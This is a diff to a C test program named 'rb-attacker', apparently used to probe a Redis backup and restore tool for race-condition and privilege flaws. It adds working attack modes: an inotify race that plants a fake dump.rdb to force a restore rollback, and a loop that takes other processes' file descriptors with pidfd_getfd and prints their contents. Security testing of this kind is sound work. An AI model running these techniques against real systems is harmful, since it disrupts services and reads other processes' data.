@@ -67,6 +67,19 @@
  *                  in aof/ (what root removes once the AOF is placed), the
  *                  deepest holding a symlink to VICTIM_FILE.
  *       Then say what became of aof/ (appendonlydir moved out, aof/ gone).
+ *
+ *   replant-dump READY DATA
+ *       The first time dump.rdb leaves the data dir (restore moving the old
+ *       data aside), put a file of ours under its name at once, so that the
+ *       restored one cannot be placed and the restore rolls back; once.
+ *
+ *   steal-fds READY
+ *       Take every descriptor from 3 on of every process of ours but this
+ *       one (Redis, and whatever the tool starts as the account) with
+ *       pidfd_getfd, which asks for nothing but the same uid and a dumpable
+ *       process, and read its first bytes: "process PID: CMDLINE" the first
+ *       time a process is seen, then "took fd N of PID (TARGET): BYTES",
+ *       once each.
  */
 #define _GNU_SOURCE
 #include <dirent.h>
@@ -81,6 +94,7 @@
 #include <string.h>
 #include <sys/inotify.h>
 #include <sys/stat.h>
+#include <sys/syscall.h>
 #include <sys/types.h>
 #include <unistd.h>
 
@@ -730,6 +744,124 @@ static int aof_build(char **a)
 
 /* ------------------------------------------------------------------------ */
 
+static int replant_dump(char **a)
+{
+    in_dir(a[0]);
+    struct events *e = events_new();
+    watch(e, ".", IN_MOVED_FROM | IN_DELETE);
+    armed(a[-1]);
+    for (;;) {
+        struct inotify_event *ev = next_event(e);
+        if (!ev->len || strcmp(ev->name, DUMP) != 0)
+            continue;
+        int fd = open(DUMP, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0600);
+        if (fd < 0) {
+            say("could not plant %s: %s", DUMP, strerror(errno));
+            continue;
+        }
+        if (write(fd, "planted\n", 8) != 8)
+            die("write " DUMP);
+        close(fd);
+        say("planted a %s of ours where the old one was", DUMP);
+        idle_forever();
+    }
+    return 0;
+}
+
+/* The bytes of a descriptor, printable, or why there are none. */
+static void first_bytes(int fd, char *out, size_t size)
+{
+    char buf[96];
+    ssize_t n = pread(fd, buf, sizeof buf, 0);
+    if (n < 0) {
+        snprintf(out, size, "(unreadable: %s)", strerror(errno));
+        return;
+    }
+    size_t j = 0;
+    for (ssize_t i = 0; i < n && j + 1 < size; i++)
+        out[j++] = buf[i] >= 32 && buf[i] <= 126 ? buf[i] : '.';
+    out[j] = '\0';
+}
+
+#define MAX_TAKEN 4096
+
+static int steal_fds(char **a)
+{
+    static struct {
+        long pid;
+        int fd;
+    } taken[MAX_TAKEN];
+    static long seen[MAX_TAKEN];
+    int ntaken = 0, nseen = 0;
+    armed(a[-1]);
+    for (;;) {
+        DIR *proc = opendir("/proc");
+        if (!proc)
+            die("opendir /proc");
+        struct dirent *de;
+        while ((de = readdir(proc)) != NULL) {
+            long pid = atol(de->d_name);
+            char path[PATH_MAX];
+            struct stat st;
+            snprintf(path, sizeof path, "/proc/%ld", pid);
+            if (pid <= 0 || pid == getpid() || stat(path, &st) != 0 || st.st_uid != getuid())
+                continue;
+            int known = 0;
+            for (int i = 0; i < nseen; i++)
+                known |= seen[i] == pid;
+            if (!known && nseen < MAX_TAKEN) {
+                char cmdline[256] = "";
+                snprintf(path, sizeof path, "/proc/%ld/cmdline", pid);
+                int c = open(path, O_RDONLY | O_CLOEXEC);
+                ssize_t n = c >= 0 ? read(c, cmdline, sizeof cmdline - 1) : 0;
+                if (c >= 0)
+                    close(c);
+                for (ssize_t i = 0; i < n; i++)
+                    if (cmdline[i] == '\0')
+                        cmdline[i] = ' ';
+                cmdline[n > 0 ? n : 0] = '\0';
+                seen[nseen++] = pid;
+                say("process %ld: %s", pid, cmdline);
+            }
+            int pidfd = syscall(SYS_pidfd_open, (pid_t)pid, 0);
+            if (pidfd < 0)
+                continue;
+            snprintf(path, sizeof path, "/proc/%ld/fd", pid);
+            DIR *fds = opendir(path);
+            while (fds && (de = readdir(fds)) != NULL) {
+                int fd = atoi(de->d_name);
+                int done = 0;
+                if (fd < 3)
+                    continue;
+                for (int i = 0; i < ntaken; i++)
+                    done |= taken[i].pid == pid && taken[i].fd == fd;
+                if (done || ntaken >= MAX_TAKEN)
+                    continue;
+                int got = syscall(SYS_pidfd_getfd, pidfd, fd, 0);
+                if (got < 0)
+                    continue;
+                char link[PATH_MAX] = "", bytes[128];
+                snprintf(path, sizeof path, "/proc/%ld/fd/%d", pid, fd);
+                ssize_t n = readlink(path, link, sizeof link - 1);
+                link[n > 0 ? n : 0] = '\0';
+                first_bytes(got, bytes, sizeof bytes);
+                close(got);
+                taken[ntaken].pid = pid;
+                taken[ntaken++].fd = fd;
+                say("took fd %d of %ld (%s): %s", fd, pid, link, bytes);
+            }
+            if (fds)
+                closedir(fds);
+            close(pidfd);
+        }
+        closedir(proc);
+        usleep(1000);
+    }
+    return 0;
+}
+
+/* ------------------------------------------------------------------------ */
+
 static volatile sig_atomic_t breaks;
 
 static void on_lease_break(int sig)
@@ -779,6 +911,8 @@ int main(int argc, char **argv)
         {"swap-dump", 2, swap_dump},
         {"aof-build", 4, aof_build},
         {"lease", 1, lease},
+        {"replant-dump", 1, replant_dump},
+        {"steal-fds", 0, steal_fds},
     };
     for (size_t i = 0; argc >= 3 && i < sizeof modes / sizeof modes[0]; i++) {
         if (strcmp(argv[1], modes[i].name) != 0)
@@ -790,6 +924,6 @@ int main(int argc, char **argv)
         /* argv[2] is READY, found as a[-1] by the modes. */
         return modes[i].run(argv + 3);
     }
-    fprintf(stderr, "usage: rb-attacker swap-workdir|aof-dir|plant-rewrite|swap-dump|aof-build|lease READY DATA_DIR ARGS...\n");
+    fprintf(stderr, "usage: rb-attacker swap-workdir|aof-dir|plant-rewrite|swap-dump|aof-build|lease|replant-dump|steal-fds READY DATA_DIR ARGS...\n");
     return 2;
 }
